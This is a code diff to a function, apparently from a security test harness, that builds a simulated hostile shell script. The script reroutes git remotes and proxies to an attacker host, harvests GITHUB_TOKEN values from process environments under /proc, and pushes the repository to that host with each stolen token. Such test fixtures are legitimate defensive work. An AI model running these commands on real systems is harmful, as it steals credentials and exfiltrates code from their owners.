@@ -101,9 +101,11 @@ def hostile_script(world: RunWorld, evil: str) -> str:
             f"git config --worktree url.{evil}.insteadOf {real} 2>&1",
             f"git config http.proxy http://{evil_host} 2>&1",
             "echo '== push of its own'",
-            "T=$(for p in $(ls /proc | grep -E '^[0-9]+$'); do "
-            f"{steal}; done | sed -n 's/^GITHUB_TOKEN=//p' | head -1)",
-            f"git push http://x:$T@{evil_host}/acme/calculator.git HEAD:refs/heads/stolen 2>&1",
+            # With every token it found: a parallel test's process may show its own first.
+            "for T in '' $(for p in $(ls /proc | grep -E '^[0-9]+$'); do "
+            f"{steal}; done | sed -n 's/^GITHUB_TOKEN=//p' | sort -u); do "
+            f"git push http://x:$T@{evil_host}/acme/calculator.git HEAD:refs/heads/stolen 2>&1; "
+            "done",
             "echo done",
         ]
     )
